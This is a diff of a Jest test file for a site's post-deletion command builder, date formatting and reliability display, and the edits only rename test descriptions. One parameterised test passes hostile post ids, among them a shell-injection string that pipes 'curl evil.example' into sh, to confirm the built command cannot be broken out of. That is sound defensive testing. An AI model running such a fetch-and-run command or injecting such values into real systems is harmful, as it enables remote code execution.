@@ -1,12 +1,12 @@
 import { expect, it } from '@jest/globals'
 import { deletionOf, timeInWords, reliability } from '../../../pages/owner/words'
 
-it('is a command that deletes the post', () => {
+it('builds a command that deletes the post', () => {
   expect(deletionOf('1')).toBe(`npx sls invoke -f privacy --data '{"delete":{"posts":["1"]}}'`)
 })
 
 it.each(["1'; curl evil.example | sh; '", '1’; calc; ‘', '1\u202E\u0007\n2', '1\u{E0001}'])(
-  'is one command for a post called %j',
+  'builds one command for a post with the id %j',
   (post) => {
     const command = deletionOf(post)
     const [, data = ''] = /^npx sls invoke -f privacy --data '([^'‘’\p{C}]*)'$/u.exec(command) ?? []
@@ -19,11 +19,11 @@ it.each([
   ['2026-11-23T20:12:00Z', '23 November 2026, 20:12 UTC'],
   ['2026-11-22T10:00:00.000', '22 November 2026, 10:00 UTC'],
   ['2026-11-23T00:30:00+02:00', '22 November 2026, 22:30 UTC'],
-])('writes %s as the other pages do', (iso, words) => {
+])('formats %s like the other pages', (iso, words) => {
   expect(timeInWords(iso)).toBe(words)
 })
 
-it('says how reliable somebody is with an interval and a number of posts', () => {
+it("shows a person's reliability with an interval and a number of posts", () => {
   const of = (share: number, low: number, high: number, items: number) =>
     reliability({ reliability: { share, low, high, items } }).replaceAll('\u00a0', ' ')
 
